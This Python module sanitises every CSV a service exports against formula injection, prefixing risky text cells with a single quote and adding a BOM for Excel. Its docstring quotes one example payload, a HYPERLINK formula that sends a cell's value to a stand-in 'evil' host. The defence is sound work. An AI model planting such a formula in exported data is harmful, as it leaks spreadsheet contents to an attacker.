"""Every CSV the service hands out is written here, so that none can carry a formula.

A cell that begins with = + - @ (or a tab, carriage return or NUL) is read by Excel, WPS and
LibreOffice as a formula: a merchant named `=HYPERLINK("http://evil/?"&A2,"点击")` would run in
the secretary's spreadsheet (CSV or formula injection). As OWASP advises, such a text cell is
prefixed with a single quote, which spreadsheets show as text; numbers are written as they are.
The csv module quotes separators and quotes, so no cell can start a new one.
"""
import csv
import io

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\0")


def neutral(cell):
    if isinstance(cell, str) and cell.startswith(FORMULA_STARTS):
        return "'" + cell
    return cell


def csv_text(header, rows):
    """The CSV of `header` and `rows` (sequences of cells), with a BOM so that Excel reads the
    Chinese as UTF-8."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([neutral(cell) for cell in header])
    writer.writerows([neutral(cell) for cell in row] for row in rows)
    return "\ufeff" + out.getvalue()
